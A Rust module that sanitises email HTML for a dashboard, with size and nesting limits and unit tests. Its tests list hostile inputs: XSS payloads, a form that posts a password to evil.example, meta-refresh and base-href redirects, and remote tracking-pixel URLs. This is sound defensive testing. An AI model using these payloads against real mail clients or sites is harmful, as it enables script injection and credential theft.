//! Mail HTML made safe to show.
//!
//! Invariant: nothing in the result runs, loads anything from the network, submits anything, or reaches
//! outside its own box. The dashboard shows it in a sandboxed frame under a policy of its own all the
//! same: two walls. Deliberately absent: remote images, in every disguise (`src`, `srcset`, `background`, CSS
//! `url()`), because opening a mail must not tell its sender that it was opened.

use std::{borrow::Cow, sync::LazyLock};

use ammonia::{Builder, UrlRelative};

/// Most bytes of HTML that are looked at. The time to parse a hostile nest grows faster than its length, and an
/// answer must stay below Lambda's 6 MB.
pub const HTML_BYTES_MAX: usize = 1_000_000;
/// Most bytes of the result: in JSON they may double.
const SAFE_BYTES_MAX: usize = 1_500_000;

/// Style properties that cannot move a thing out of its place or load one.
const STYLE_PROPERTIES: &[&str] = &[
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-radius",
    "border-right",
    "border-spacing",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "direction",
    "display",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-variant",
    "font-weight",
    "height",
    "letter-spacing",
    "line-height",
    "list-style-type",
    "margin",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "max-width",
    "min-width",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "text-align",
    "text-decoration",
    "text-indent",
    "text-transform",
    "vertical-align",
    "white-space",
    "width",
    "word-break",
    "word-spacing",
    "overflow-wrap",
];

/// Attributes that mail of the table age is laid out with.
const LAYOUT_ATTRIBUTES: &[&str] = &[
    "align",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "color",
    "dir",
    "height",
    "style",
    "valign",
    "width",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder
        .add_tags(["center", "font", "big"])
        .add_tag_attributes("font", ["face", "size"])
        .add_generic_attributes(LAYOUT_ATTRIBUTES.iter().copied())
        .add_clean_content_tags([
            "title", "noscript", "iframe", "object", "svg", "math", "template", "textarea", "select",
        ])
        .filter_style_properties(STYLE_PROPERTIES.iter().copied().collect())
        .url_schemes(["http", "https", "mailto", "tel", "data"].into())
        // A relative link in a mail points at nothing, and inside a page of ours at us.
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(keep_attribute);
    builder
});

/// Deepest nest that is parsed: 50,000 levels take the parser minutes, honest mail has dozens.
const DEPTH_MAX: usize = 1_000;

/// Elements that never stay open: they have no end, or the next of their kind ends them.
const FLAT: [&str; 17] = [
    "area", "base", "br", "col", "dd", "dt", "hr", "img", "input", "li", "link", "meta", "p", "td", "th",
    "tr", "wbr",
];

/// The beginning of the text, up to where its tags are nested too deep. Counts roughly: what looks like a tag is one.
fn shallow(html: &str) -> &str {
    let mut depth = 0_usize;
    for (at, _) in html.match_indices('<') {
        let rest = html.get(at + 1..).unwrap_or_default();
        let is_end = rest.starts_with('/');
        let name = rest.trim_start_matches('/');
        let name = name
            .get(..name.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(name.len()))
            .unwrap_or_default();
        if name.is_empty() || FLAT.iter().any(|flat| flat.eq_ignore_ascii_case(name)) {
            continue;
        }
        depth = if is_end { depth.saturating_sub(1) } else { depth + 1 };
        if depth > DEPTH_MAX {
            return html.get(..at).unwrap_or_default();
        }
    }
    html
}

/// The safe rest of a mail's HTML.
pub fn sanitise(html: &str) -> String {
    let html = shallow(html);
    let mut end = html.floor_char_boundary(HTML_BYTES_MAX);
    loop {
        let safe = CLEANER.clean(html.get(..end).unwrap_or_default()).to_string();
        // Every `&` becomes five bytes. The result is not cut, because a cut could open what was closed.
        if safe.len() <= SAFE_BYTES_MAX {
            return safe;
        }
        end = html.floor_char_boundary(end / 2);
    }
}

fn keep_attribute<'value>(element: &str, attribute: &str, value: &'value str) -> Option<Cow<'value, str>> {
    let kept = match (element, attribute) {
        ("img", "src") => is_inline_image(value),
        // A link to `data:` opens a page of the sender's making.
        (_, "href" | "cite") => !starts_with_ignoring_case(value.trim_start(), "data:"),
        // A backslash escapes letters in CSS: `\75rl(` is `url(`.
        (_, "style") => {
            !value.contains('\\')
                && !contains_ignoring_case(value, "url(")
                && !contains_ignoring_case(value, "expression")
        }
        _ => true,
    };
    kept.then_some(Cow::Borrowed(value))
}

/// Raster images only: an SVG is a document.
fn is_inline_image(value: &str) -> bool {
    let value = value.trim_start();
    ["data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp"]
        .iter()
        .any(|kind| starts_with_ignoring_case(value, kind))
}

fn starts_with_ignoring_case(text: &str, prefix: &str) -> bool {
    text.get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix))
}

fn contains_ignoring_case(text: &str, needle: &str) -> bool {
    text.to_ascii_lowercase().contains(needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_runs_survives() {
        for hostile in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href='javascript:alert(1)'>x</a>",
            "<a href=' JaVaScRiPt:alert(1)'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<form action='https://evil.example'><input name=password></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href='https://evil.example/'>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        ] {
            let safe = sanitise(hostile).to_lowercase();
            for token in [
                "<script",
                "onerror=",
                "onload=",
                "javascript:",
                "data:text",
                "<iframe",
                "<form",
                "<input",
                "<meta",
                "<base",
            ] {
                let in_markup = safe.contains(token) && !safe.contains("&lt;");
                assert!(!in_markup, "{hostile} left {safe}");
            }
        }
    }

    #[test]
    fn opening_a_mail_loads_nothing_from_the_network() {
        let hostile = r#"<img src="https://t.example/p.gif" srcset="https://t.example/2x.gif 2x" alt="logo"><img src="//t.example/p.gif">
            <table background="https://t.example/b.gif"><tr><td style="color:red;background-image:url(https://t.example/c.gif)">x</td></tr></table>
            <p style="background:\75rl(https://t.example/d.gif)">y</p><link rel=stylesheet href="https://t.example/e.css">
            <style>@import url(https://t.example/f.css)</style><video poster="https://t.example/g.gif"></video>"#;
        let safe = sanitise(hostile);
        assert!(!safe.contains("t.example"), "{safe}");
        assert!(safe.contains("alt=\"logo\""), "what stood there can still be read: {safe}");
    }

    #[test]
    fn inline_pictures_and_plain_looks_stay() {
        let safe = sanitise(
            r#"<p style="color:red; position:fixed">x <img src="data:image/png;base64,AAAA"> <b>y</b></p>"#,
        );
        assert!(
            safe.contains("color:red") && safe.contains("data:image/png") && safe.contains("<b>y</b>"),
            "{safe}"
        );
        assert!(!safe.contains("position"), "{safe}");
        assert!(!sanitise("<img src='data:image/svg+xml,x'>").contains("svg"));
    }

    #[test]
    fn links_open_elsewhere_and_say_nothing_of_us() {
        let safe = sanitise("<a href='https://example.com/'>x</a><a href='/signout'>y</a>");
        assert!(safe.contains("target=\"_blank\"") && safe.contains("noopener noreferrer"), "{safe}");
        assert!(!safe.contains("/signout"), "{safe}");
    }

    #[test]
    fn a_deep_nest_and_a_cut_inside_a_letter_are_survived() {
        let nest = format!("seen{}", "<div>".repeat(100_000));
        let safe = sanitise(&nest);
        assert!(safe.starts_with("seen") && safe.len() <= 12 * DEPTH_MAX, "cut where it is too deep");
        let flat = format!("{}seen", "<p>x<br>".repeat(3_000));
        assert!(sanitise(&flat).contains("seen"), "long is not deep");
        let long = format!("{}ä", "x".repeat(HTML_BYTES_MAX - 1));
        assert_eq!(sanitise(&long).len(), HTML_BYTES_MAX - 1);
    }
}
